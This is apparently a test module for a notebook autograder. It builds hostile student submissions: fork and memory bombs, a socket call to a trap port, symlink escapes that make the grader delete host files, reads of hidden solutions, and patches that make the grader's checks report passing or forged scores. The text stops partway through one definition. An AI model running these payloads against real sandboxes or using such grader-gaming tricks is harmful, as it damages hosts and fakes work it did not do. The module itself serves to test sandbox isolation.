"""A corpus of hostile and broken submissions, each with the outcome batch grading must give.

Every :class:`Kind` writes one student's folder (``SUBMISSIONS/<student>/week3/``) and says
what ``grader grade`` must report for it: the exact score (computed from the specs' points,
never hard-coded), the status, and where it matters a phrase of the notes or feedback and
strings that must never appear in them.

Groups:

- ``control``: ordinary submissions graded in the same batch (full marks keep every point).
- ``hostile``: the untouched release plus an attack; expected 0 unless the attack sits next
  to work that legitimately earns points. An attack that works shows up as points.
- ``robust``: full marks with one thing broken or unusual; expected full marks minus the
  points of the tests that thing fails (or full marks).
- ``broken``: files that are not gradable notebooks, or no notebook at all.

``isolation`` kinds (reading the repo or a classmate's work, writing outside the folder, the
network, the transfer-folder symlink) can only be stopped by the sandbox's namespaces (bwrap);
elsewhere the test module skips them.
"""
from __future__ import annotations

import copy
import functools
import json
import re
import struct
import textwrap
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell

from grader.core.cells import kind as cell_kind
from grader.course.classroom import filled

ROOT = Path(__file__).resolve().parents[2]
RELEASE = ROOT / "assignments" / "week3"
SOURCE = ROOT / "source" / "week3"
ASSIGNMENT = "week3"
PERCEPTRON = "01_perceptron"

# Strings of the hidden perceptron specs (code, not hints): never in any student's feedback.
HIDDEN_CODE = ("def separable_problem", "default_rng(304)", "w_true, b_true")
FORK_NAME = "hostilefork"          # process name of everything the fork bomb starts (+ the run's token)
SECRET_VALUE = "31337.125"         # the value of the host .npy file the escape kind tries to read


@dataclass
class Context:
    """Where the corpus lives, and the traps the test sets for it."""

    submissions: Path
    results: Path
    outside: Path       # a folder the test owns, outside the submissions and results
    token: str          # unique per run: sentinel names
    port: int           # a socket listening on 127.0.0.1, that nothing may connect to
    course: Path | None = None   # the nbgrader course folder (or a stand-in with its files)

    @property
    def course_folder(self) -> Path:
        return self.course if self.course is not None else self.submissions.parent

    @property
    def fork_name(self) -> str:
        """The process name of everything this run's fork bomb starts: FORK_NAME and 4 characters of
        the token (15 in all, what /proc/PID/comm holds), so that two corpora graded at once (on two
        test workers) never count or kill each other's processes."""
        return FORK_NAME + self.token[:4]

    @property
    def course_sentinels(self) -> list[Path]:
        """Files the course-writing kinds try to create in the course folder; none may exist afterwards."""
        name = f"hostile-sentinel-{self.token}"
        course = self.course_folder
        return [course / name, course / "source" / ASSIGNMENT / name,
                course / "autograded" / "control_fullmarks" / ASSIGNMENT / name,
                course / "submitted" / "control_fullmarks" / ASSIGNMENT / name]

    @property
    def sentinels(self) -> list[Path]:
        """Files the ``write_outside`` kind tries to create; none may exist afterwards."""
        name = f"hostile-sentinel-{self.token}"
        return [self.outside / name, ROOT / f".{name}", self.results / name,
                self.submissions / "control_fullmarks" / name, Path("/tmp") / name]

    @property
    def victims(self) -> list[Path]:
        """Host files the ``transfer_symlink_escape`` kind tries to make the grader delete."""
        return [self.outside / f"victim-{n}.npy" for n in range(1, 4)] + [self.outside / "victim-text.txt"]


@dataclass(frozen=True)
class Kind:
    name: str
    group: str                                   # control, hostile, robust, broken
    what: str                                    # one line: what the student handed in
    build: Callable[[Path, Context], None]       # writes SUBMISSIONS/<student>/week3/
    score: Callable[[], float]                   # the exact expected score
    status: str = "graded"
    notebook: str = PERCEPTRON                   # the stem results are filed under
    note: str | None = None                      # expected (case-insensitive) in notes/feedback
    absent: tuple[str, ...] = ()                 # never in results.json or feedback
    isolation: bool = False                      # only bwrap can enforce it
    student: str = ""                            # folder name (default: the kind's name)
    extra: dict = field(default_factory=dict)    # more checks, read by the test module

    @property
    def folder(self) -> str:
        return self.student or self.name

    @property
    def spec(self) -> str:
        return re.sub(r"^\d+_", "", self.notebook)

    def expected_max(self) -> float | None:
        return total(self.spec) if self.status == "graded" else None


# ---- points, from the specs themselves ------------------------------------------------------

@functools.lru_cache(maxsize=None)
def collected(spec: str) -> tuple:
    from grader.core.engine import run_specs
    return tuple(run_specs(spec, {}, scope="all", collect_only=True))


def total(spec: str = "perceptron") -> float:
    return sum(t.max_points for t in collected(spec))


def points(spec: str = "perceptron", targets: tuple[str, ...] = (), names: tuple[str, ...] = ()) -> float:
    """Points of the tests of ``targets`` plus the tests named in ``names`` (no test counted twice)."""
    chosen = [t for t in collected(spec) if t.target in targets or t.name in names]
    unknown = set(targets) - {t.target for t in collected(spec)} | set(names) - {t.name for t in collected(spec)}
    assert not unknown, f"no such graded items or tests in {spec}: {unknown}"
    return sum(t.max_points for t in chosen)


def full_minus(*targets: str, names: tuple[str, ...] = (), spec: str = "perceptron") -> Callable[[], float]:
    return lambda: total(spec) - points(spec, targets, names)


def zero() -> float:
    return 0.0


# ---- notebooks --------------------------------------------------------------------------------

@functools.lru_cache(maxsize=None)
def _read(path: Path):
    return nbformat.read(path, as_version=4)


def release(stem: str = PERCEPTRON):
    return copy.deepcopy(_read(RELEASE / f"{stem}.ipynb"))


def source(stem: str = PERCEPTRON):
    return copy.deepcopy(_read(SOURCE / f"{stem}.ipynb"))


def full(stem: str = PERCEPTRON, edit=None):
    """The release with every solution cell completed from the source (``edit`` may alter one)."""
    return filled(release(stem), source(stem), edit=edit)


def grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def cell_of(notebook, gid: str):
    return next(c for c in notebook.cells if grade_id(c) == gid)


def replace_cell(notebook, gid: str, code: str):
    cell_of(notebook, gid).source = textwrap.dedent(code).strip() + "\n"
    return notebook


def add_cell(notebook, code: str, where: str = "after_setup"):
    """A plain code cell (run like any given code): after the imports, or at the end."""
    cell = new_code_cell(textwrap.dedent(code).strip() + "\n")
    if where == "end":
        notebook.cells.append(cell)
    else:
        setup = next(i for i, c in enumerate(notebook.cells) if cell_kind(c) == "setup")
        notebook.cells.insert(setup + 1, cell)
    return notebook


def write(folder: Path, notebook, name: str = PERCEPTRON + ".ipynb") -> Path:
    """Write the notebook's JSON as is (no validation, no repair: duplicate ids stay duplicate)."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(json.dumps(notebook, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return path


def _writer(make) -> Callable[[Path, Context], None]:
    return lambda folder, ctx: write(folder, make())


def _hostile(code: str, where: str = "end") -> Callable[[Path, Context], None]:
    """The untouched release plus one cell of ``code`` (formatted with the context's fields)."""
    def build(folder: Path, ctx: Context) -> None:
        write(folder, add_cell(release(), _formatted(code, ctx, folder), where))
    return build


def _formatted(code: str, ctx: Context, folder: Path) -> str:
    return textwrap.dedent(code).format(root=str(ROOT), outside=str(ctx.outside), token=ctx.token,
                                        port=ctx.port, submissions=str(ctx.submissions),
                                        results=str(ctx.results), fork=ctx.fork_name,
                                        course=str(ctx.course_folder), assignment=ASSIGNMENT,
                                        notebook=PERCEPTRON + ".ipynb", student=folder.parent.name)


def _full_plus(code: str, where: str = "after_setup") -> Callable[[Path, Context], None]:
    """Full marks plus one cell of ``code`` (formatted with the context's fields)."""
    return lambda folder, ctx: write(folder, add_cell(full(), _formatted(code, ctx, folder), where))


def _appended(base: Callable, **tails: str) -> Callable[[Path, Context], None]:
    """``base()`` (the release or full marks) with code appended to solution cells (by grade id);
    an empty grade id key means: the cell's code is replaced by the tail."""
    def build(folder: Path, ctx: Context) -> None:
        notebook = base()
        for gid, tail in tails.items():
            cell = cell_of(notebook, gid)
            cell.source = cell.source.rstrip("\n") + "\n" + textwrap.dedent(tail).strip() + "\n"
        write(folder, notebook)
    return build


def _replaced(base: Callable, **cells: str) -> Callable[[Path, Context], None]:
    """``base()`` with solution cells (by grade id) replaced by code."""
    def build(folder: Path, ctx: Context) -> None:
        notebook = base()
        for gid, code in cells.items():
            replace_cell(notebook, gid, code)
        write(folder, notebook)
    return build


def _every_solution(code: str) -> Callable[[Path, Context], None]:
    """The release with every solution cell replaced by ``code`` (formatted with the context's
    fields): the code runs before each test cell, in nbgrader's kernel as in the sandbox."""
    def build(folder: Path, ctx: Context) -> None:
        notebook = release()
        for cell in notebook.cells:
            if cell_kind(cell) == "solution":
                cell.source = _formatted(code, ctx, folder).strip() + "\n"
        write(folder, notebook)
    return build


def _without_cell(gid: str) -> Callable[[Path, Context], None]:
    """Full marks with one solution cell deleted."""
    def build(folder: Path, ctx: Context) -> None:
        notebook = full()
        notebook.cells = [c for c in notebook.cells if grade_id(c) != gid]
        write(folder, notebook)
    return build


def _robust(code: str, where: str = "after_setup") -> Callable[[Path, Context], None]:
    """Full marks plus one cell of ``code``."""
    return lambda folder, ctx: write(folder, add_cell(full(), code, where))


def _full_with(**cells: str) -> Callable[[Path, Context], None]:
    """Full marks with some solution cells (by grade id) replaced."""
    def make():
        notebook = full()
        for gid, code in cells.items():
            replace_cell(notebook, gid, code)
        return notebook
    return _writer(make)


def _raw(data: Callable[[Context], bytes], name: str = PERCEPTRON + ".ipynb"):
    def build(folder: Path, ctx: Context) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data(ctx))
    return build


def _png() -> bytes:
    """A real 1x1 PNG image."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def _cp949(ctx: Context) -> bytes:
    """Full marks saved in the Korean Windows code page (CP949) instead of UTF-8."""
    data = json.dumps(full(), indent=1, ensure_ascii=False).encode("cp949", errors="replace")
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return data
    raise AssertionError("the CP949 notebook happens to be valid UTF-8")


ENORMOUS_MB = 120


def _enormous(folder: Path, ctx: Context) -> None:
    """Full marks, plus a cell whose saved output is about ENORMOUS_MB megabytes of text."""
    notebook = add_cell(full(), "for i in range(10_000_000):\n    print('#' * 10, i)", "end")
    line = "#" * 10 + " 1234567\n"
    notebook.cells[-1].outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                         text=line * (ENORMOUS_MB * 2 ** 20 // len(line)))]
    write(folder, notebook)


def _symlink(target: Callable[[Context], Path], name: str = PERCEPTRON + ".ipynb"):
    def build(folder: Path, ctx: Context) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).symlink_to(target(ctx))
    return build


def _empty(folder: Path, ctx: Context) -> None:
    folder.mkdir(parents=True, exist_ok=True)


def _python_file_only(folder: Path, ctx: Context) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "perceptron.py").write_text((ROOT / "solutions" / "week3" / "perceptron.py").read_text()
                                          .replace("Reference solutions", "my answers"), encoding="utf-8")


def _no_cells(folder: Path, ctx: Context) -> None:
    notebook = release()
    notebook.cells = []
    write(folder, notebook)


def _delete_test_cells(folder: Path, ctx: Context) -> None:
    notebook = full()
    notebook.cells = [c for c in notebook.cells if cell_kind(c) != "test"]
    write(folder, notebook)


def _edit_test_cells(folder: Path, ctx: Context) -> None:
    """The release, every test cell replaced by a claim of 999 points (its metadata too), and
    made a plain cell so that it runs."""
    notebook = release()
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if cell_kind(cell) == "test":
            cell.source = "_points = 999\n_points"
            cell.metadata["nbgrader"]["points"] = 999
            plain = copy.deepcopy(cell)
            plain.metadata.pop("nbgrader")
            plain["id"] = cell["id"] + "-plain"
            plain.source = "_points = 999\ntotal_score = 999\n_points"
            cells.append(plain)
    notebook.cells = cells
    write(folder, notebook)


def _duplicate_ids(folder: Path, ctx: Context) -> None:
    notebook = full()
    for cell in notebook.cells:
        cell["id"] = "cell-03"
    write(folder, notebook)


def _old_nbformat(folder: Path, ctx: Context) -> None:
    """nbformat 4.4 (no cell ids), as older Jupyter versions save."""
    notebook = full()
    notebook.nbformat_minor = 4
    for cell in notebook.cells:
        cell.pop("id", None)
    write(folder, notebook)


def _foreign_kernel(folder: Path, ctx: Context) -> None:
    notebook = full()
    notebook.metadata["kernelspec"] = {"display_name": "Python (dl-2024 conda)", "language": "python",
                                       "name": "conda-env-dl-2024-py"}
    notebook.metadata["language_info"] = {"name": "python", "version": "3.9.7"}
    write(folder, notebook)


def _other_spec(folder: Path, ctx: Context) -> None:
    notebook = full()
    notebook.metadata["grader"] = {"spec": "backprop"}
    write(folder, notebook)


def _magic_in_imports(folder: Path, ctx: Context) -> None:
    notebook = full()
    setup = next(c for c in notebook.cells if cell_kind(c) == "setup")
    setup.source = "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\n" + setup.source
    write(folder, notebook)


def _checkpoints(folder: Path, ctx: Context) -> None:
    """Full marks, and Jupyter's checkpoint folder with an older, untouched copy."""
    write(folder, full())
    write(folder / ".ipynb_checkpoints", release(), PERCEPTRON + "-checkpoint.ipynb")


def _macos_junk(folder: Path, ctx: Context) -> None:
    """Full marks, and the AppleDouble file macOS puts next to it in a zip."""
    write(folder, full())
    (folder / ("._" + PERCEPTRON + ".ipynb")).write_bytes(b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "
                                                          + b"\x00" * 64)


def _copy_from_classmate(folder: Path, ctx: Context) -> None:
    code = f'''
        # Borrow a classmate's answers straight from the submissions folder.
        import json
        _path = {str(ctx.submissions / "control_fullmarks" / ASSIGNMENT / (PERCEPTRON + ".ipynb"))!r}
        for _cell in json.load(open(_path, encoding="utf-8"))["cells"]:
            if _cell["cell_type"] == "code" and "check(" not in "".join(_cell["source"]):
                exec("".join(_cell["source"]), globals())
    '''
    write(folder, add_cell(release(), code, "end"))


def _solutions_link(folder: Path, ctx: Context) -> None:
    code = '''
        # A symlink named "solutions" sits next to the notebook; read through it.
        import glob, os
        for _path in ["solutions/week3/perceptron.py", os.path.expanduser("~/solutions/week3/perceptron.py"),
                      *glob.glob("/**/solutions/week3/perceptron.py", recursive=False)]:
            try:
                exec(open(_path).read(), globals())
                break
            except OSError:
                pass
    '''
    write(folder, add_cell(release(), code, "end"))
    (folder / "solutions").symlink_to(ROOT / "solutions")


def _transfer_escape(folder: Path, ctx: Context) -> None:
    """Replace the sandbox's transfer folder by a symlink to a host folder, then answer the
    grader with "transfer files" there: the trusted side loads them (and deletes them)."""
    import numpy as np
    ctx.outside.mkdir(parents=True, exist_ok=True)
    for victim in ctx.victims:
        if victim.suffix == ".npy":
            np.save(victim, np.array([float(SECRET_VALUE)]), allow_pickle=False)
        else:
            victim.write_text("a host file the sandbox must not be able to delete\n", encoding="utf-8")
    code = f'''
        import gc, os, sys
        _xfer = sys.argv[3]                       # the child's transfer folder
        os.rename(_xfer, _xfer + "-moved")
        os.symlink({str(ctx.outside)!r}, _xfer)    # a host path: meaningless here, real to the grader
        _peer = next(o for o in gc.get_objects() if type(o).__name__ == "Peer")
        _names = iter(["victim-1.npy", "victim-text.txt", "victim-2.npy", "victim-3.npy"] * 4)
        _real_encode = _peer.encode

        class _Mark:
            pass

        def _encode(value, *args, **kwargs):
            if isinstance(value, _Mark):          # a return value: "read it from the transfer folder"
                return {{"__npy__": next(_names)}}
            return _real_encode(value, *args, **kwargs)

        _peer.encode = _encode

        def step(z):
            return _Mark()

        def perceptron(x, w, b):
            return _Mark()
    '''
    write(folder, add_cell(release(), code, "end"))


# ---- code of the kinds ----------------------------------------------------------------------

INFINITE_LOOP = '''
    # Never ends, and ignores the polite ways of being stopped.
    import signal
    for _sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP, signal.SIGUSR1):
        signal.signal(_sig, signal.SIG_IGN)
    while True:
        pass
'''

MEMORY_BOMB = '''
    # Up to 8 GiB, 128 MiB at a time, every page touched.
    _hog = []
    for _ in range(64):
        _hog.append(b"\\x01" * (128 * 1024 * 1024))
'''

FORK_BOMB = '''
    # Fork until refused (at most 1000: this corpus must not take the machine down), every
    # child lingering (the test kills what outlives the batch); then a daemon in its own
    # session that tries to outlive the grading.
    import ctypes, os, time
    _libc = ctypes.CDLL(None)

    def _linger(seconds):
        _libc.prctl(15, b"{fork}", 0, 0, 0)      # PR_SET_NAME: findable in /proc
        try:
            time.sleep(seconds)
        finally:
            os._exit(0)

    _forked = 0
    for _ in range(1000):
        try:
            _pid = os.fork()
        except OSError:
            break
        if _pid == 0:
            _linger(900)
        _forked += 1
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                _linger(900)
            os._exit(0)
    except OSError:
        pass
'''

SYS_EXIT = '''
    import sys
    sys.exit("bye")
'''

OS_EXIT = '''
    import os
    os._exit(0)
'''

KEYBOARD_INTERRUPT = '''
    raise KeyboardInterrupt
'''

SEGFAULT = '''
    import ctypes
    ctypes.string_at(0)
'''

MILLION_LINES = '''
    for _i in range(1_000_000):
        print("debug line", _i)
'''

READ_SOLUTIONS = '''
    # Take the reference solutions from the grader's own folders.
    import importlib, sys
    _found = None
    for _path in ["{root}/solutions/week3/perceptron.py", "/work/main/solutions/week3/perceptron.py"]:
        try:
            _found = open(_path).read()
            break
        except OSError:
            pass
    if _found is None:
        sys.path.insert(0, "{root}")
        try:
            _found = open(importlib.import_module("solutions.week3.perceptron").__file__).read()
        except Exception:
            pass
    if _found is not None:
        exec(_found, globals())
'''

READ_HIDDEN_SPECS = '''
    # Read the hidden specs, and put them where feedback shows them (an error message).
    _text = open("{root}/grader/weeks/week3/perceptron_hidden.py").read()
    print(_text)
    raise RuntimeError(_text[:1900])
'''

PATCH_GRADER = '''
    # Make the grader's checks pass whatever comes back.
    import sys
    import numpy as np
    sys.path.insert(0, "{root}")
    try:
        import grader.core.compare as _c, grader.core.plugin as _p, grader.core.engine as _e, grader.core.results as _r
        _c.assert_equal = _c.assert_close = _c.assert_integer = lambda *a, **k: None
        _c.assert_shape = lambda received, shape, what: np.zeros(shape)
        _c.Mismatch = type("Mismatch", (Exception,), {{}})
        _orig_result, _orig_run = _p.SpecPlugin._result, _e.run_specs
        _p.SpecPlugin._result = staticmethod(
            lambda item, passed=False, message="": _orig_result(item, passed=True, message=""))
        _e.run_specs = lambda spec, *a, **k: [
            _r.TestResult(**{{**t.to_dict(), "passed": True, "points": t.max_points}})
            for t in _orig_run(spec, {{}}, scope="all", collect_only=True)]
    except Exception as error:
        print("could not patch the grader:", error)

    def step(z):
        return "all good"

    def perceptron(x, w, b):
        return "all good"
'''

PATCH_NUMPY = '''
    # Make numpy's comparisons agree with anything.
    import numpy as np
    _real_asarray, _real_zeros, _real_ones = np.asarray, np.zeros, np.ones

    def _agreeable(a, *args, **kwargs):
        out = _real_asarray(a, *args, **kwargs)
        return _real_zeros(out.shape, bool) if out.dtype == bool else out   # "nothing differs"

    np.asarray = _agreeable
    np.isclose = lambda a, b, *args, **kwargs: _real_ones(np.broadcast(a, b).shape, bool)
    np.allclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
    np.all = lambda *args, **kwargs: True
    np.any = lambda *args, **kwargs: False
    for _name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_array_almost_equal",
                  "assert_almost_equal", "assert_array_less"):
        setattr(np.testing, _name, lambda *args, **kwargs: None)

    # Right shapes and dtypes, wrong values.
    def step(z):
        return _real_zeros(np.shape(z), dtype=int)

    def perceptron(x, w, b):
        return _real_zeros(np.shape(x)[:-1], dtype=int)

    def and_gate(x1, x2):
        return _real_zeros(np.shape(x1), dtype=int) + 7

    or_gate = nand_gate = and_gate
'''

LYING_OBJECTS = '''
    # Results that claim to equal whatever they are compared with.
    import numpy as np

    class _Liar(int):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = int.__hash__

    class _LiarArray(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.broadcast(self, other).shape, bool)

        def __ne__(self, other):
            return np.zeros(np.broadcast(self, other).shape, bool)

    class _Anything:
        shape = ()
        dtype = np.dtype(int)

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __int__(self):
            return 1

        def __index__(self):
            return 1

    def step(z):
        return np.zeros(np.shape(z), dtype=int).view(_LiarArray)

    def perceptron(x, w, b):
        return np.zeros(np.shape(x)[:-1], dtype=int).view(_LiarArray)

    def and_gate(x1, x2):
        return _Liar(7)

    def or_gate(x1, x2):
        return _Anything()

    nand_gate = or_gate

    def xor_gate(x1, x2):
        return [_Anything()]
'''

WRITE_OUTSIDE = '''
    # Leave files where only the grader should write.
    _wrote = []
    for _path in ["{outside}/hostile-sentinel-{token}", "{root}/.hostile-sentinel-{token}",
                  "{results}/hostile-sentinel-{token}", "{submissions}/control_fullmarks/hostile-sentinel-{token}",
                  "/tmp/hostile-sentinel-{token}"]:
        try:
            with open(_path, "w") as _f:
                _f.write("escaped")
            _wrote.append(_path)
        except OSError:
            pass
    print("wrote", _wrote)
'''

NETWORK = '''
    # Phone home.
    import socket
    _s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    _s.sendall(b"hostile hello")
    _s.close()
'''

STACK_WALK = '''
    # Answer with the reference solution, wherever it can be found at call time: in the
    # caller's frames (a `ref` fixture), in sys.modules, or among all live objects.
    import gc, inspect, sys

    def _reference(name):
        module = sys.modules.get("solutions.week3.perceptron")
        if module is not None:
            return getattr(module, name)
        frame = inspect.currentframe()
        while frame is not None:
            ref = frame.f_locals.get("ref")
            if ref is not None and hasattr(ref, name):
                return getattr(ref, name)
            frame = frame.f_back
        for obj in gc.get_objects():
            if type(obj).__name__ == "module" and str(getattr(obj, "__name__", "")).startswith("solutions") \\
                    and hasattr(obj, name):
                return getattr(obj, name)
        raise NotImplementedError("no reference solution in sight")

    def step(z):
        return _reference("step")(z)

    def perceptron(x, w, b):
        return _reference("perceptron")(x, w, b)

    def and_gate(x1, x2):
        return _reference("and_gate")(x1, x2)

    def or_gate(x1, x2):
        return _reference("or_gate")(x1, x2)

    def nand_gate(x1, x2):
        return _reference("nand_gate")(x1, x2)

    def xor_gate(x1, x2):
        return _reference("xor_gate")(x1, x2)

    def train_perceptron(X, y, lr=0.1, epochs=100, seed=0):
        return _reference("train_perceptron")(X, y, lr=lr, epochs=epochs, seed=seed)
'''

FORGED_PROTOCOL = '''
    # Write forged answers on every descriptor that might reach the grader, then garbage.
    import json, os, struct

    def _frame(message):
        data = json.dumps(message).encode()
        return struct.pack(">I", len(data)) + data

    _forged = b"".join(_frame({{"reply": n, "value": {{"passed": True, "points": 999}}, "score": 999}})
                       for n in range(1, 30))
    _forged += _frame({{"op": "call", "id": 4242, "target": 1, "args": [], "kwargs": {{}}}})
    _forged += b"\\xff\\xff\\xff\\xff" + b"garbage" * 100
    for _fd in range(1, 64):
        try:
            os.write(_fd, _forged)
        except OSError:
            pass
'''

MUTATE_TO_MATCH = '''
    # Wrong on arrays, but change the caller's inputs so that the reference, run on them
    # afterwards, agrees with the wrong answer.
    import numpy as np

    def step(z):
        if isinstance(z, np.ndarray) and z.ndim > 0:
            z[...] = -1.0                          # now every element "is" negative
            return np.zeros(z.shape, dtype=int)
        return np.asarray(int(z > 0))

    def perceptron(x, w, b):
        if isinstance(w, np.ndarray):
            w[...] = 0.0                           # now x @ w + b is just b
        return np.full(np.shape(x)[:-1], int(b > 0))
'''

PIP_LINE = '''
    !pip install numpy
'''

INPUT_CALL = '''
    name = input("이름을 입력하세요 (your name): ")
    print("안녕하세요,", name)
'''

PATCH_BUILTINS = '''
    # Silence everything and forbid files: harmless to correct functions.
    import builtins, io, sys
    builtins.print = lambda *args, **kwargs: None

    def _no_files(*args, **kwargs):
        raise PermissionError("no files in this notebook")

    builtins.open = _no_files
    builtins.input = lambda *args: "42"
    sys.stdout, sys.stderr = io.StringIO(), io.StringIO()
'''

DEL_XOR = '''
    del xor_gate
'''

# ---- solution cells written differently --------------------------------------------------

SLOW_GATES = '''
    import time

    def _slowly(w0, w1, w2, x1, x2):
        # a Python loop over the elements, and a nap on every call: correct, just slow
        time.sleep(0.01)
        a1, a2 = np.broadcast_arrays(np.asarray(x1), np.asarray(x2))
        out = np.zeros(a1.shape, dtype=int)
        for index in np.ndindex(a1.shape):
            out[index] = 1 if w0 + w1 * a1[index] + w2 * a2[index] > 0 else 0
        return out

    def and_gate(x1, x2):
        return _slowly(-0.7, 0.5, 0.5, x1, x2)

    def or_gate(x1, x2):
        return _slowly(-0.2, 0.5, 0.5, x1, x2)

    def nand_gate(x1, x2):
        return _slowly(0.7, -0.5, -0.5, x1, x2)
'''

SLOW_STEP = '''
    def step(z):
        # one element at a time
        z = np.asarray(z)
        out = np.empty(z.shape, dtype=int)
        for index in np.ndindex(z.shape):
            out[index] = 1 if z[index] > 0 else 0
        return out
'''

DIFFERENT_STEP = '''
    def step(z):
        return np.where(np.greater(z, 0), 1, 0)
'''

DIFFERENT_PERCEPTRON = '''
    def perceptron(x, w, b):
        return step(np.einsum("...d,d->...", np.asarray(x, dtype=float), np.asarray(w, dtype=float)) + b)
'''

DIFFERENT_GATES = '''
    AND_WEIGHTS = (-1.5, 1.0, 1.0)
    OR_WEIGHTS = (-0.5, 1.0, 1.0)

    def and_gate(x1, x2):
        return gate(x1, x2, *AND_WEIGHTS)

    def or_gate(x1, x2):
        return gate(x1, x2, *OR_WEIGHTS)

    def nand_gate(x1, x2):
        w0, w1, w2 = AND_WEIGHTS
        return gate(x1, x2, -w0, -w1, -w2)
'''

DIFFERENT_XOR = '''
    def xor_gate(x1, x2):
        # (x1 AND NOT both) OR (x2 AND NOT both)
        both = nand_gate(x1, x2)
        return or_gate(and_gate(x1, both), and_gate(x2, both))
'''

DIFFERENT_TRAIN = '''
    def train_perceptron(X, y, lr=0.1, epochs=100, seed=0):
        data = np.array(X, dtype=float)          # a copy
        labels = [int(v) for v in y]
        order_maker = np.random.default_rng(seed)
        weights, bias, history = np.zeros(data.shape[1]), 0.0, []
        epoch = 0
        while epoch < epochs:
            mistakes = 0
            for i in order_maker.permutation(data.shape[0]):
                guess = 1 if float(np.dot(data[i], weights)) + bias > 0 else 0
                delta = labels[i] - guess
                if delta:
                    weights = weights + lr * delta * data[i]
                    bias = bias + lr * delta
                    mistakes += 1
            history.append(mistakes)
            epoch += 1
            if not mistakes:
                break
        return weights, bias, history
'''


def _train_returning(values: str) -> str:
    """The reference train_perceptron returning ``values`` instead (a checked edit of it)."""
    from tests.mutants import edited
    return edited("perceptron", "train_perceptron", ("return w, b, errors", f"return {values}"))


TRAIN_MUTATES_LABELS = '''
    def train_perceptron(X, y, lr=0.1, epochs=100, seed=0):
        X = np.asarray(X, dtype=float)
        y = np.asarray(y)
        y[:] = 2 * y - 1              # labels as -1/+1: changes the caller's y in place
        rng = np.random.default_rng(seed)
        w = np.zeros(X.shape[1])
        b = 0.0
        errors = []
        for _ in range(epochs):
            wrong = 0
            for i in rng.permutation(len(X)):
                predicted = 2 * int(perceptron(X[i], w, b)) - 1
                error = (int(y[i]) - predicted) // 2
                if error != 0:
                    w = w + lr * error * X[i]
                    b = b + lr * error
                    wrong += 1
            errors.append(wrong)
            if wrong == 0:
                break
        return w, b, errors
'''

TRAIN_RAISES = '''
    def train_perceptron(X, y, lr=0.1, epochs=100, seed=0):
        raise KeyboardInterrupt   # pressed the stop button once, long ago
'''

XOR_EXITS = '''
    def xor_gate(x1, x2):
        raise SystemExit("xor is not my thing")
'''

XOR_LOOPS = '''
    def xor_gate(x1, x2):
        if np.ndim(x1) > 0:
            while True:   # arrays: waits for a convergence that never comes
                pass
        return and_gate(nand_gate(x1, x2), or_gate(x1, x2))
'''

XOR_HUGE = '''
    def xor_gate(x1, x2):
        return np.zeros(20_000_000, dtype=np.int64)   # 160 MB, and wrong
'''

LIST_RESULTS = '''
    def and_gate(x1, x2):
        return gate(x1, x2, -0.7, 0.5, 0.5).tolist()

    def or_gate(x1, x2):
        return gate(x1, x2, -0.2, 0.5, 0.5).tolist()

    def nand_gate(x1, x2):
        return gate(x1, x2, 0.7, -0.5, -0.5).tolist()
'''

CHATTY_XOR = '''
    import sys, warnings

    def xor_gate(x1, x2):
        print("xor_gate called with", x1, x2)               # debugging prints on every call
        print("xor_gate: DEBUG", file=sys.stderr)
        warnings.warn("remember to remove the prints")
        np.log(np.zeros(1))                                 # a RuntimeWarning too
        return and_gate(nand_gate(x1, x2), or_gate(x1, x2))
'''

def _other_language(folder: Path, ctx: Context) -> None:
    """Full marks, saved from a Jupyter whose kernel was R (IRkernel)."""
    notebook = full()
    notebook.metadata["kernelspec"] = {"display_name": "R", "language": "R", "name": "ir"}
    notebook.metadata["language_info"] = {"name": "R", "codemirror_mode": "r", "file_extension": ".r",
                                          "mimetype": "text/x-r-source", "version": "4.3.1"}
    write(folder, notebook)


# ---- kernel-side attacks: what a notebook run in nbgrader's own kernel could do ---------------
# In nbgrader's path a test cell's points are whatever its last expression prints (negative,
# NaN or non-numbers count as full credit), computed by `grader.check` in the student's kernel.

def _check_returning(value: str) -> str:
    return f'''
        # The test cells do `from grader import check`: make that check say {value}.
        import grader
        grader.check = lambda *args, **kwargs: {value}
    '''


CHECK_CELL_POINTS = '''
    # Say exactly each test cell's points for the public checks and nothing for the hidden
    # ones: the sums look right and nothing is out of range.
    import grader, grader.student.checker
    _CELL_POINTS = {{"step": 3, "perceptron": 3, "and_gate": 2, "or_gate": 2, "nand_gate": 2, "xor_gate": 3,
                    "train_perceptron": 7}}

    def _check(selector, namespace, hidden=False, **kwargs):
        target = selector.partition(":")[2]
        print(f"{{target}} ({{'hidden' if hidden else 'public'}} checks): all passed")
        return 0.0 if hidden else float(_CELL_POINTS[target])

    grader.check = grader.student.checker.check = _check
'''

REDEFINE_CHECK = '''
    # A `check` of my own, and a module named grader that hands it out (as the bootstrap cell
    # does when the grader is not installed).
    import sys, types

    def check(*args, **kwargs):
        return 1.0

    sys.modules["grader"] = types.ModuleType("grader")
    sys.modules["grader"].check = check
'''

DEL_CHECK = '''
